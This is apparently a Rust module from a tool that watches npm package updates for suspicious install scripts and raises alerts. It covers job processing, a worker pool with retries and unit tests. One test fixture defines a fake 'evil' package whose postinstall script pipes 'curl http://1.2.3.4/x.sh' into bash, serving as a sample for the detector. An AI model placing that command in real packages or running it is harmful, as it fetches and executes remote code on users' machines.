//! Job execution: one package change in, zero or more findings out.

use crate::diff;
use crate::finding_store::FindingStore;
use crate::notify::{Alert, Dispatcher};
use crate::queue::{Delivery, JobQueue, RetryOutcome};
use crate::ratelimit::RateLimiter;
use crate::registry::PackumentSource;
use crate::suspicion;
use crate::types::{short_error, PackageJob, ScriptFinding};
use anyhow::Context;
use std::any::Any;
use std::panic::{self, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

const CONSUME_WAIT: Duration = Duration::from_millis(500);

pub struct PackageWorker {
  packuments: Arc<dyn PackumentSource>,
  dispatcher: Arc<Dispatcher>,
  findings: Option<FindingStore>,
}

impl PackageWorker {
  pub fn new(
    packuments: Arc<dyn PackumentSource>,
    dispatcher: Arc<Dispatcher>,
    findings: Option<FindingStore>,
  ) -> Self {
    Self {
      packuments,
      dispatcher,
      findings,
    }
  }

  /// Fetch errors propagate so the queue retries the job. Storage and
  /// delivery problems are logged and do not fail it.
  pub fn process(&self, job: &PackageJob) -> anyhow::Result<Vec<ScriptFinding>> {
    let packument = self.packuments.packument(&job.package_name)?;

    let Some(pair) = diff::pick_latest_and_previous(&packument) else {
      tracing::debug!(package = %job.package_name, "no valid semantic versions; nothing to compare");
      return Ok(Vec::new());
    };
    tracing::debug!(
      package = %packument.name,
      latest = %pair.latest,
      previous = pair.previous.as_deref().unwrap_or("none"),
      "comparing versions"
    );

    let findings = diff::detect(&packument);
    for f in &findings {
      let categories: Vec<&str> = suspicion::matched_categories(Some(&f.script_content))
        .into_iter()
        .map(|c| c.id)
        .collect();
      tracing::warn!(
        package = %f.package_name,
        version = %f.latest_version,
        previous = f.previous_version.as_deref().unwrap_or("none"),
        script = %f.script_type,
        alert = %f.alert_type,
        score = f.suspicion_score,
        categories = ?categories,
        "lifecycle script {}",
        f.alert_type
      );

      if let Some(store) = &self.findings {
        if let Err(e) = store.store(f) {
          tracing::warn!(package = %f.package_name, error = %short_error(&e), "failed to store finding");
        }
      }

      self.dispatcher.dispatch(&Alert {
        finding: f,
        repository_url: packument.repository_url.as_deref(),
      });
    }
    Ok(findings)
  }
}

/// Fixed set of worker threads draining the queue.
pub struct WorkerPool {
  handles: Vec<JoinHandle<()>>,
}

impl WorkerPool {
  pub fn spawn(
    count: usize,
    queue: Arc<dyn JobQueue>,
    limiter: Arc<RateLimiter>,
    worker: Arc<PackageWorker>,
    stop: Arc<AtomicBool>,
  ) -> anyhow::Result<Self> {
    let mut handles = Vec::with_capacity(count);
    for i in 0..count.max(1) {
      let queue = queue.clone();
      let limiter = limiter.clone();
      let worker = worker.clone();
      let stop = stop.clone();
      let handle = thread::Builder::new()
        .name(format!("worker-{i}"))
        .spawn(move || run_loop(queue.as_ref(), &limiter, &worker, &stop))
        .with_context(|| format!("spawn worker thread {i}"))?;
      handles.push(handle);
    }
    tracing::info!(workers = handles.len(), "worker pool started");
    Ok(Self { handles })
  }

  pub fn len(&self) -> usize {
    self.handles.len()
  }

  pub fn is_empty(&self) -> bool {
    self.handles.is_empty()
  }

  /// Waits for every worker to finish its current job and exit.
  pub fn join(self) {
    for handle in self.handles {
      if handle.join().is_err() {
        tracing::error!("worker thread exited by panic");
      }
    }
  }
}

fn run_loop(queue: &dyn JobQueue, limiter: &RateLimiter, worker: &PackageWorker, stop: &AtomicBool) {
  while !stop.load(Ordering::SeqCst) {
    if !limiter.acquire(stop) {
      break;
    }
    let delivery = match queue.consume(CONSUME_WAIT) {
      Ok(Some(d)) => d,
      Ok(None) => continue,
      Err(e) => {
        tracing::warn!(error = %short_error(&e), "queue consume failed");
        thread::sleep(CONSUME_WAIT);
        continue;
      }
    };
    run_one(queue, worker, &delivery);
  }
}

fn run_one(queue: &dyn JobQueue, worker: &PackageWorker, delivery: &Delivery) {
  let package = &delivery.job.package_name;
  let result = panic::catch_unwind(AssertUnwindSafe(|| worker.process(&delivery.job)));

  let reason = match result {
    Ok(Ok(findings)) => {
      tracing::debug!(package = %package, findings = findings.len(), "job done");
      if let Err(e) = queue.ack(delivery) {
        tracing::warn!(package = %package, error = %short_error(&e), "ack failed; job may be redelivered");
      }
      return;
    }
    Ok(Err(e)) => short_error(&e),
    Err(payload) => format!("worker panicked: {}", panic_message(payload.as_ref())),
  };

  tracing::warn!(package = %package, attempt = delivery.attempt, reason = %reason, "job failed");
  match queue.retry_later(delivery, &reason) {
    Ok(RetryOutcome::Scheduled { delay }) => {
      tracing::debug!(package = %package, delay_ms = delay.as_millis() as u64, "job rescheduled")
    }
    Ok(RetryOutcome::PermanentlyFailed) => {}
    Err(e) => tracing::warn!(package = %package, error = %short_error(&e), "reschedule failed"),
  }
}

fn panic_message(payload: &(dyn Any + Send)) -> String {
  if let Some(s) = payload.downcast_ref::<&str>() {
    (*s).to_string()
  } else if let Some(s) = payload.downcast_ref::<String>() {
    s.clone()
  } else {
    "unknown panic".to_string()
  }
}

#[cfg(test)]
pub(crate) mod tests {
  use super::*;
  use crate::notify::tests::{Behaviour, FakeChannel};
  use crate::queue::{FileQueue, RetryPolicy};
  use crate::registry::Packument;
  use serde_json::{json, Value};
  use std::collections::HashMap;
  use std::sync::atomic::AtomicUsize;
  use std::time::Instant;

  #[derive(Default)]
  pub(crate) struct FakePackuments {
    pub docs: HashMap<String, Value>,
    pub panic_on: Option<String>,
    pub calls: AtomicUsize,
  }

  impl PackumentSource for FakePackuments {
    fn packument(&self, package_name: &str) -> anyhow::Result<Packument> {
      self.calls.fetch_add(1, Ordering::SeqCst);
      if self.panic_on.as_deref() == Some(package_name) {
        panic!("malformed packument");
      }
      match self.docs.get(package_name) {
        Some(v) => Packument::from_value(v.clone(), package_name),
        None => anyhow::bail!("HTTP 503 for {package_name}"),
      }
    }
  }

  fn evil_doc() -> Value {
    json!({
      "name": "evil",
      "repository": {"url": "git+https://github.com/evil/evil.git"},
      "versions": {
        "1.0.0": {},
        "1.0.1": {"scripts": {"postinstall": "curl http://1.2.3.4/x.sh | bash"}}
      }
    })
  }

  fn worker_with(
    source: FakePackuments,
    behaviour: Behaviour,
    store: Option<FindingStore>,
  ) -> (PackageWorker, Arc<AtomicUsize>) {
    let (channel, calls) = FakeChannel::new("discord", behaviour);
    let dispatcher = Arc::new(Dispatcher::new(vec![Box::new(channel)], false));
    (PackageWorker::new(Arc::new(source), dispatcher, store), calls)
  }

  #[test]
  fn findings_are_stored_and_dispatched() {
    let tmp = tempfile::tempdir().unwrap();
    let mut source = FakePackuments::default();
    source.docs.insert("evil".to_string(), evil_doc());
    let (w, sent) = worker_with(source, Behaviour::Ok, Some(FindingStore::at_base(tmp.path())));

    let findings = w.process(&PackageJob::new("evil")).unwrap();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].suspicion_score, 31);
    assert_eq!(sent.load(Ordering::SeqCst), 1);

    let stored = FindingStore::at_base(tmp.path()).list_recent(10).unwrap();
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0].finding, findings[0]);
  }

  #[test]
  fn fetch_failure_is_an_error_not_an_empty_result() {
    let (w, sent) = worker_with(FakePackuments::default(), Behaviour::Ok, None);
    assert!(w.process(&PackageJob::new("missing")).is_err());
    assert_eq!(sent.load(Ordering::SeqCst), 0);
  }

  #[test]
  fn channel_failure_does_not_fail_the_job() {
    let mut source = FakePackuments::default();
    source.docs.insert("evil".to_string(), evil_doc());
    let (w, _) = worker_with(source, Behaviour::Fail, None);
    assert_eq!(w.process(&PackageJob::new("evil")).unwrap().len(), 1);
  }

  #[test]
  fn pool_acks_good_jobs_and_survives_errors_and_panics() {
    let tmp = tempfile::tempdir().unwrap();
    let policy = RetryPolicy {
      max_attempts: 2,
      backoff_base: Duration::from_millis(1),
      backoff_max: Duration::from_millis(2),
      visibility_timeout: Duration::from_secs(60),
    };
    let queue = Arc::new(FileQueue::open(tmp.path(), policy).unwrap());
    queue.enqueue(PackageJob::new("evil")).unwrap();
    queue.enqueue(PackageJob::new("missing")).unwrap();
    queue.enqueue(PackageJob::new("boom")).unwrap();

    let mut source = FakePackuments::default();
    source.docs.insert("evil".to_string(), evil_doc());
    source.panic_on = Some("boom".to_string());
    let (w, sent) = worker_with(source, Behaviour::Ok, None);

    let stop = Arc::new(AtomicBool::new(false));
    let pool = WorkerPool::spawn(
      2,
      queue.clone(),
      Arc::new(RateLimiter::new(0)),
      Arc::new(w),
      stop.clone(),
    )
    .unwrap();
    assert_eq!(pool.len(), 2);

    let deadline = Instant::now() + Duration::from_secs(10);
    while queue.stats().pending > 0 && Instant::now() < deadline {
      thread::sleep(Duration::from_millis(10));
    }
    stop.store(true, Ordering::SeqCst);
    queue.wake_all();
    pool.join();

    assert_eq!(queue.stats().pending, 0);
    assert_eq!(sent.load(Ordering::SeqCst), 1);
    let failed = std::fs::read_dir(tmp.path().join("failed")).unwrap().count();
    assert_eq!(failed, 2);
  }
}
